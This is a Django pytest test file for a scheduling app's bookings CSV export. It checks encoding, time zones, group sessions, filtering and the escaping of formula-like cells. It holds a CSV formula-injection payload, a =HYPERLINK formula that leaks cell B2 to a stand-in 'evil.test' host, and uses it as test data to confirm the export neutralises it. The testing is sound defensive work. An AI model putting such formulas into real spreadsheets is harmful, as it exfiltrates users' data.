"""The Bookings list's CSV export (booking_csv.py): the bytes a spreadsheet opens as
UTF-8, a line per booking with its session's id, times in the host's zone with the zone
named, no cell a spreadsheet runs, and exactly the bookings the filters keep."""

import csv
import io
from datetime import UTC, datetime

import pytest
from django.test import Client

from slotlink.scheduling.booking_list import ROWS_PER_PAGE
from slotlink.scheduling.models import Booking, EventType
from slotlink.scheduling.questions.answers import answer_for
from slotlink.scheduling.questions.services import question_add
from slotlink.scheduling.services.bookings import booking_cancel
from tests.scheduling.builders import book, make_event_type, many_bookings, next_free_starts

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("https://evil.test/?leak="&B2,"Click me")'
HEADER = (
    "booking id,group session id,status,start,end,time zone,event type,host,host email,"
    "invitee name,invitee email,invitee phone,invitee time zone,location,"
    "cancellation reason,booked at,guests,answers\r\n"
)


def export(client: Client, query: str = "") -> bytes:
    response = client.get(f"/360/bookings/export.csv{query}")
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"].startswith('attachment; filename="bookings-')
    return response.content


def lines(content: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(content.decode("utf-8-sig"), newline="")))


@pytest.fixture
def host(member_membership):
    user = member_membership.user
    user.time_zone = "Asia/Kolkata"  # UTC+05:30: a zone whose times no UTC time looks like
    user.save()
    return user


def test_the_file_is_utf8_with_a_byte_order_mark_and_no_cell_runs(
    member_client, organization, host
):
    """The bytes start with UTF-8's byte order mark (Excel then reads UTF-8), then the
    header, lines ending in CRLF; a name that is a formula is written with an apostrophe in
    front, so the spreadsheet shows it as text; "Zoë" is UTF-8."""
    call = make_event_type(organization, host, title="+Intro", slug="intro")
    first, second = next_free_starts(call, 2)
    formula = book(call, first, name=HYPERLINK, email="evil@example.test")
    zoe = book(call, second, name="Zoë Ünal", email="zoe@example.test")
    content = export(member_client)
    assert content.startswith(b"\xef\xbb\xbf" + HEADER.encode())
    body = content[len(b"\xef\xbb\xbf" + HEADER.encode()) :]
    assert body.count(b"\r\n") == 2
    assert b'"\'=HYPERLINK(""https://evil.test/?leak=""&B2,""Click me"")"' in body
    assert "Zoë Ünal".encode() in body
    by_id = {line["booking id"]: line for line in lines(content)}
    assert by_id[str(formula.id)]["invitee name"] == "'" + HYPERLINK
    assert by_id[str(formula.id)]["event type"] == "'+Intro"
    assert by_id[str(zoe.id)]["invitee name"] == "Zoë Ünal"


def test_times_are_in_the_hosts_zone_and_the_zone_is_named(member_client, organization, host):
    """Start, end and when it was booked are the host's wall-clock times, their zone in a
    column of its own."""
    call = make_event_type(organization, host, slug="intro")
    booking = book(call)
    Booking.objects.filter(pk=booking.pk).update(
        start=datetime(2031, 3, 10, 10, 0, tzinfo=UTC),
        end=datetime(2031, 3, 10, 10, 30, tzinfo=UTC),
        created_at=datetime(2031, 3, 1, 20, 0, tzinfo=UTC),
    )
    (line,) = lines(export(member_client, "?status=all"))
    assert (line["start"], line["end"], line["time zone"]) == (
        "2031-03-10 15:30",
        "2031-03-10 16:00",
        "Asia/Kolkata",
    )
    assert line["booked at"] == "2031-03-02 01:30"
    assert (line["status"], line["host"], line["invitee time zone"]) == (
        "Confirmed",
        host.get_full_name(),
        "America/New_York",
    )


def test_a_group_sessions_seats_are_a_line_each_with_the_sessions_id(
    member_client, organization, host
):
    """Each seat is a line carrying its session's id (so a spreadsheet groups them); a
    one-on-one booking has none."""
    workshop = make_event_type(
        organization,
        host,
        slug="workshop",
        kind=EventType.Kind.GROUP,
        seats_per_session=5,
    )
    call = make_event_type(organization, host, slug="intro")
    start, other = next_free_starts(workshop, 2)
    seats = [book(workshop, start, email=f"seat{n}@example.test") for n in range(3)]
    alone = book(call, other)
    found = lines(export(member_client))
    sessions = {line["booking id"]: line["group session id"] for line in found}
    assert sessions == {
        **{str(seat.id): str(seats[0].session_id) for seat in seats},
        str(alone.id): "",
    }


def test_the_file_holds_exactly_the_filtered_bookings_of_every_page(
    member_client, organization, host
):
    """Every booking the filters keep, past the list's first page, in the list's order;
    none that they don't."""
    call = make_event_type(organization, host, slug="intro")
    many_bookings(call, ROWS_PER_PAGE + 20)
    names = [line["invitee name"] for line in lines(export(member_client))]
    assert names == [f"Many {n:04d}" for n in range(ROWS_PER_PAGE + 20)]
    names = [line["invitee name"] for line in lines(export(member_client, "?q=many 006"))]
    assert names == [f"Many {n:04d}" for n in range(60, 70)]
    gone = Booking.objects.get(invitee_name="Many 0003")
    booking_cancel(booking=gone)
    assert [line["booking id"] for line in lines(export(member_client, "?status=cancelled"))] == [
        str(gone.id)
    ]
    assert "Many 0003" not in [line["invitee name"] for line in lines(export(member_client))]


def test_each_line_has_its_invitees_answers_and_guests_and_no_cell_runs(
    member_client, organization, host
):
    """The answers given are one cell, a line per question ("Question: answer"), the
    guests another; an answer cell that starts like a formula (the host's question
    "=Budget?") is kept as text."""
    call = make_event_type(organization, host, slug="asks")
    budget = question_add(
        event_type=call, kind="short_text", label="=Budget?", required=False, options=[]
    )
    size = question_add(
        event_type=call,
        kind="multiple_choice",
        label="Interests",
        required=False,
        options=["Pricing", "API"],
    )
    book(
        call,
        answers=(answer_for(budget, "-5 or +5"), answer_for(size, ["Pricing", "API"])),
        guests=("ann@example.test", "bo@example.test"),
    )
    (line,) = lines(export(member_client))
    assert line["answers"] == "'=Budget?: -5 or +5\nInterests: Pricing, API"
    assert line["guests"] == "ann@example.test, bo@example.test"
